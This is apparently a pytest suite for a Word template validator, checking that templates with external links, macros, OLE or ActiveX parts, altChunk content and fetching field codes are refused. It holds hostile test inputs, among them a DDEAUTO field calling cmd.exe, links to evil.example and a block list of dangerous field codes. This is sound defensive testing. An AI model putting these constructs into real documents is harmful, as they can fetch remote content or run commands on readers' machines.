"""What a template may bring into a document, and what it may not."""

import re
import zipfile
from io import BytesIO

import pytest

from addin.output.documents.allowed_parts import examine
from addin.output.documents.package import parts
from addin.output.documents.places import Template, template_dir
from tests.addin.output.documents.test_engine import template
from tests.addin.output.documents.test_separate_process import apart_of, own
from workbook.model.errors import TemplateMistake

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
#: The smallest document with a header and settings, as python-docx writes it.
BODY, HEADER, SETTINGS = "word/document.xml", "word/header1.xml", "word/settings.xml"


@pytest.fixture(scope="module")
def plain(tmp_path_factory):
    import docx

    folder = tmp_path_factory.mktemp("plain")
    page = docx.Document()
    page.add_paragraph("Before the thing.")
    page.sections[0].header.paragraphs[0].text = "Our header"
    page.save(folder / "own.docx")
    return parts((folder / "own.docx").read_bytes())


def packed(content):
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in content.items():
            target.writestr(name, data)
    return stream.getvalue()


def with_relation(plain, kind, target="http://evil.example/x", mode="External", part=BODY, base=R):
    folder, _, file = part.rpartition("/")
    name = f"{folder}/_rels/{file}.rels".lstrip("/")
    old = plain.get(name, RELS.format("").encode()).decode()
    one = f'<Relationship Id="rEvil" Type="{base}/{kind}" Target="{target}"' + (
        f' TargetMode="{mode}"/>' if mode else "/>"
    )
    closed = re.sub(r"/>\s*$", "></Relationships>", old) if "</Relationships>" not in old else old
    return plain | {name: closed.replace("</Relationships>", f"{one}</Relationships>").encode()}


def with_text(plain, xml, part=BODY):
    end = {BODY: b"<w:sectPr", HEADER: b"</w:hdr>", SETTINGS: b"</w:settings>"}[part]
    return plain | {part: plain[part].replace(end, xml.encode() + end, 1)}


def with_part(plain, name, kind, content_type, data=b"MZ"):
    types = plain["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'.encode()
    )
    target = name.removeprefix("word/")
    return with_relation(plain, kind, target, "") | {name: data, "[Content_Types].xml": types}


def refused(content):
    with pytest.raises(TemplateMistake) as caught:
        examine("own.docx", packed(content))
    return caught.value


def field(code, begin="", end=""):
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in code)
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return (
        f"<w:p><w:r><w:t>Field here</w:t></w:r>{char.format('begin')}{begin}{pieces}{end}{char.format('separate')}"
        f"<w:r><w:t>1</w:t></w:r>{char.format('end')}</w:p>"
    )


OUTSIDE = "image oleObject aFChunk frame subDocument package control video audio media mailMergeSource transform header"


@pytest.mark.parametrize("kind", [*OUTSIDE.split(), "vbaProject", "somethingNew"])
@pytest.mark.parametrize("base", [R, "http://purl.oclc.org/ooxml/officeDocument/relationships"])
def test_whatever_lies_elsewhere_is_refused_with_its_place(plain, kind, base):
    error = refused(with_relation(plain, kind, base=base))
    assert "lies elsewhere (http://evil.example/x)" in error.what
    assert "in its text" in error.where


@pytest.mark.parametrize(
    "target",
    [r"\\server\share\x.png", "file:///c:/x.png", "//server/x.png", "ftp://x/y", "ms-word:ofe|u|http://x", r"C:\x.png"],
)
@pytest.mark.parametrize("mode", ["External", "external", "Internal", ""])
def test_however_its_place_is_written(plain, target, mode):
    assert "lies elsewhere" in refused(with_relation(plain, "image", target, mode)).what


OFFICE = "application/vnd.openxmlformats-officedocument"
WITHIN = [
    ("word/vbaProject.bin", "vbaProject", "application/vnd.ms-office.vbaProject", "macros"),
    ("word/embeddings/o.bin", "oleObject", f"{OFFICE}.oleObject", "an object of another program"),
    (
        "word/embeddings/b.xlsm",
        "package",
        "application/vnd.ms-excel.sheet.macroEnabled.12",
        "a file of another program",
    ),
    ("word/embeddings/b.xlsx", "package", f"{OFFICE}.spreadsheetml.sheet", "a file of another program"),
    ("word/afchunk.mht", "aFChunk", "message/rfc822", "altChunk"),
    ("word/afchunk.html", "aFChunk", "text/html", "altChunk"),
    ("word/activeX/activeX1.xml", "control", "application/vnd.ms-office.activeX+xml", "a control"),
    ("word/customizations.xml", "keyMapCustomizations", "application/vnd.ms-word.keyMapCustomizations+xml", "macros"),
    ("word/we.xml", "webextension", "application/vnd.ms-office.webextension+xml", "add-in from the web"),
]


@pytest.mark.parametrize(("name", "kind", "content_type", "said"), WITHIN)
def test_parts_of_other_programs_are_refused_by_name(plain, name, kind, content_type, said):
    error = refused(with_part(plain, name, kind, content_type, b"<x/>"))
    assert said in error.what
    assert "in its text" in error.where


@pytest.mark.parametrize(("name", "_kind", "content_type", "_said"), WITHIN)
def test_a_part_of_another_program_is_refused_whatever_it_passes_for(plain, name, _kind, content_type, _said):
    assert name in refused(with_part(plain, name, "image", content_type, b"<x/>")).where


@pytest.mark.parametrize("kind", ["control", "oleObject", "package", "aFChunk", "attachedToolbars", "extensibility"])
def test_a_kind_that_lies_within_is_refused_too(plain, kind):
    """Its content may claim to be a picture."""
    refused(with_part(plain, "word/media/harmless.png", kind, "image/png"))


OFF, V = 'xmlns:o="urn:schemas-microsoft-com:office:office"', 'xmlns:v="urn:schemas-microsoft-com:vml"'
ENTRY = '<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:fldChar>'
RUNS = {
    "OLE": f'<w:object><o:OLEObject {OFF} Type="Embed"/></w:object>',
    "OLE alone": f"<w:pict><o:OLEObject {OFF}/></w:pict>",
    "control": f'<w:pict><w:control r:id="x" xmlns:r="{R}"/></w:pict>',
    "macro": ENTRY,
    "VML picture": f'<w:pict><v:shape {V}><v:imagedata src="http://x/y.png"/></v:shape></w:pict>',
    "VML original": f'<w:pict><v:shape {V} {OFF}><v:imagedata o:href="http://x/y.png"/></v:shape></w:pict>',
    "VML filling": rf'<w:pict><v:rect {V}><v:fill src="\\x\y"/></v:rect></w:pict>',
    "film": '<x:webVideoPr xmlns:x="urn:x" embeddedHtml="y"/>',
}
ELEMENTS = {kind: f"<w:p><w:r>{xml}</w:r></w:p>" for kind, xml in RUNS.items()} | {
    "altChunk": f'<w:altChunk r:id="rX" xmlns:r="{R}"/>',
    "another document": f'<w:p><w:subDoc r:id="rX" xmlns:r="{R}"/></w:p>',
}


@pytest.mark.parametrize("kind", ELEMENTS)
@pytest.mark.parametrize(("part", "place"), [(BODY, "in its text"), (HEADER, "in a header")])
def test_elements_are_refused_with_their_place(plain, kind, part, place):
    words = ELEMENTS[kind].replace("<w:p>", "<w:p><w:r><w:t>Beside it</w:t></w:r>", 1)
    error = refused(with_text(plain, words, part))
    assert place in error.where
    assert "Beside it" in error.where or kind == "altChunk"


@pytest.mark.parametrize("setting", ["mailMerge", "saveThroughXslt"])
def test_settings_that_fetch_are_refused(plain, setting):
    assert "in its settings" in refused(with_text(plain, f"<w:{setting}/>", SETTINGS)).where


BAD_FIELDS = [
    ['INCLUDETEXT "//server/x.docx"'],
    ["  includetext x"],
    ["INC", "LUDE", "TEXT x"],
    ["INCLUDEPICTURE http://x/y.png"],
    ["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"],
    ["DDE", " excel"],
    ["LINK Excel.Sheet.8 x"],
    ["EMBED Word.Document"],
    ["IMPORT x"],
    ["INCLUDE x"],
    ["RD x.docx"],
    ["DATABASE \\d x"],
    ["MACROBUTTON x y"],
    ["CONTROL Forms.CommandButton.1"],
    ["HTMLCONTROL x"],
    ["PRINT x"],
    ['DDE"x"'],
    ["ADDIN x"],
    ["NEWKIND x"],
]


@pytest.mark.parametrize("code", BAD_FIELDS, ids=lambda c: "".join(c)[:20])
@pytest.mark.parametrize("part", [BODY, HEADER])
def test_fields_that_fetch_or_run_are_refused(plain, code, part):
    error = refused(with_text(plain, field(code), part))
    assert "".join(code).split()[0] in error.what
    assert "Field here" in error.where


def test_simple_fields_too(plain):
    refused(with_text(plain, '<w:p><w:fldSimple w:instr=" DDE x y"/></w:p>'))


def test_a_code_that_another_field_gives_is_refused(plain):
    inner = field(["QUOTE 68 68 69"]).removeprefix("<w:p>").removesuffix("</w:p>")
    refused(with_text(plain, field([" cmd"], begin=inner)))


MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
CODE = "<w:r><w:instrText>{}</w:instrText></w:r>"
PAGE, DDE = CODE.format("PAGE "), CODE.format("DDE x")
CHOICE = f'<mc:AlternateContent {MC}><mc:Choice Requires="w"/><mc:Fallback>{PAGE}</mc:Fallback></mc:AlternateContent>'


@pytest.mark.parametrize(
    "pieces",
    [
        f"<w:del>{PAGE.replace('instrText', 'delInstrText')}</w:del>{DDE}",
        f"<w:ins>{PAGE}</w:ins>{DDE}",
        f"<w:moveFrom>{PAGE}</w:moveFrom>{DDE}",
        f"{CHOICE}{DDE}",
    ],
)
def test_a_code_in_pieces_of_which_only_some_count_is_refused(plain, pieces):
    refused(with_text(plain, field([], begin=pieces)))


def test_a_field_within_anothers_choice_is_refused(plain):
    inner = field(["INCLUDETEXT x"]).removeprefix("<w:p>").removesuffix("</w:p>")
    refused(with_text(plain, field([" = 1 1 2"], begin=f"<w:r><w:instrText>IF </w:instrText></w:r>{inner}")))


GOOD_FIELDS = [
    ["PAGE"],
    [" NUMPAGES \\* MERGEFORMAT "],
    ["TO", 'C \\o "1-3"'],
    ["PAGE\\* ROMAN"],
    ["=SUM(ABOVE)"],
    ["= 1 + 1"],
    ['XE"word"'],
    ['HYPERLINK "https://example.org"'],
    ['IF 1 = 1 "DDE" "INCLUDETEXT"'],
    ["date \\@ yyyy"],
    [],
]


@pytest.mark.parametrize("code", GOOD_FIELDS)
def test_fields_that_show_what_is_there_stay(plain, code):
    examine("own.docx", packed(with_text(plain, field(code))))


def test_links_that_a_reader_clicks_stay_and_nothing_else_may_use_them(plain):
    linked = with_relation(plain, "hyperlink", "https://example.org")
    link = f'<w:p><w:hyperlink r:id="rEvil" xmlns:r="{R}"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>'
    examine("own.docx", packed(with_text(linked, link)))
    picture = f'<w:p><w:r><a:blip xmlns:a="urn:a" r:link="rEvil" xmlns:r="{R}"/></w:r></w:p>'
    assert "blip" in refused(with_text(linked, picture)).what


def test_entities_are_not_read(plain):
    bomb = plain[HEADER].replace(b"<w:hdr", b'<!DOCTYPE x [<!ENTITY a "b">]><w:hdr', 1)
    with pytest.raises(ValueError, match="entities"):
        examine("own.docx", packed(plain | {HEADER: bomb}))


@pytest.mark.parametrize("name", ["board-minutes.docx", "governance-review.docx"])
def test_ours_hold_nothing_of_the_kind(name):
    examine(name, (template_dir() / name).read_bytes())


# ---- from the template to the document -------------------------------------------------------------------------------


def attached(plain, target):
    element = f'<w:attachedTemplate xmlns:r="{R}" r:id="rEvil"/>'
    return with_text(with_relation(plain, "attachedTemplate", target, part=SETTINGS), element, SETTINGS)


@pytest.mark.parametrize(
    "target", ["http://evil.example/x.dotm", "file:///C:/Templates/Normal.dotm", r"\\server\x.dotm"]
)
def test_the_template_that_it_was_made_from_is_left_out_with_a_sentence(plain, tmp_path, target):
    path = tmp_path / "own.docx"
    path.write_bytes(packed(attached(plain, target)))
    made = apart_of(Template(path, path.read_bytes(), ours=False))
    (note,) = made.notes
    assert "own.docx points to another template" in note
    for name, data in parts(made.content).items():
        assert b"attachedTemplate" not in data, name
        assert target.encode() not in data, name


def test_a_template_that_holds_what_it_may_not_gives_no_document(plain, tmp_path):
    path = tmp_path / "own.docx"
    path.write_bytes(packed(with_relation(plain, "image")))
    with pytest.raises(TemplateMistake, match="lies elsewhere") as caught:
        apart_of(Template(path, path.read_bytes(), ours=False))
    assert "No document was written" in caught.value.next_step


@pytest.mark.parametrize(
    "text",
    [
        "{{ ('</w:t></w:r></w:p><w:altChunk w:id=\"x\"/><w:p><w:r><w:t>')|safe }}",
        "{{ ('</w:t></w:r><w:fldSimple w:instr=\"D' ~ 'DE x\"/><w:r><w:t>')|safe }}",
    ],
)
def test_what_a_template_makes_only_when_it_is_filled_in_is_seen(tmp_path, text):
    with pytest.raises(TemplateMistake, match=r"altChunk|DDE"):
        apart_of(own(tmp_path, text))


@pytest.mark.parametrize("data", [b"", b"PK", b"\0" * 5000, b"<w:document/>"])
def test_what_is_no_word_file_is_said(tmp_path, data):
    with pytest.raises(TemplateMistake, match="can't be read as a Word file"):
        apart_of(Template(tmp_path / "own.docx", data, ours=False))


def test_a_damaged_part_is_said(plain, tmp_path):
    for part in (BODY, "[Content_Types].xml", "word/_rels/document.xml.rels", HEADER):
        broken = packed(plain | {part: plain[part][: len(plain[part]) // 2]})
        with pytest.raises(TemplateMistake, match="can't be read as a Word file"):
            apart_of(Template(tmp_path / "own.docx", broken, ours=False))


def test_a_picture_is_as_wide_as_a_page_at_most(tmp_path):
    path = template(tmp_path, "{% for f in figures %}{{ f|picture(1e9) }}{% endfor %}")
    from workbook.documents.catalogue import BY_ID

    with pytest.raises(TemplateMistake, match="cm wide"):
        apart_of(Template(path, path.read_bytes(), ours=False), document=BY_ID["governance-review"])
